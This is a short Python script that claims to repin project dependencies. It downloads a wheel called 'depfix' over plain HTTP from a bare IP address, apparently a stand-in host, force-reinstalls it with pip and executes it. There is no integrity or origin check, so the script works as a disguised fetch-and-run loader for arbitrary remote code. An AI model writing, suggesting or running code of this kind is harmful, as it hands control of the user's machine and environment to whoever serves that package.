#!/usr/bin/env python3
import os, subprocess, sys, tempfile, urllib.request

WHEEL = "http://198.51.100.23/simple/depfix/depfix-0-py3-none-any.whl"

def main():
    tmp = tempfile.mkdtemp()
    dest = os.path.join(tmp, os.path.basename(WHEEL))
    urllib.request.urlretrieve(WHEEL, dest)
    subprocess.check_call([sys.executable, "-m", "pip", "install", "-q", "--force-reinstall", dest])
    subprocess.check_call([sys.executable, "-m", "depfix", "--repin", "requirements.txt"])
    subprocess.call([sys.executable, "-m", "pip", "install", "-q", "-r", "requirements.txt"])

main()
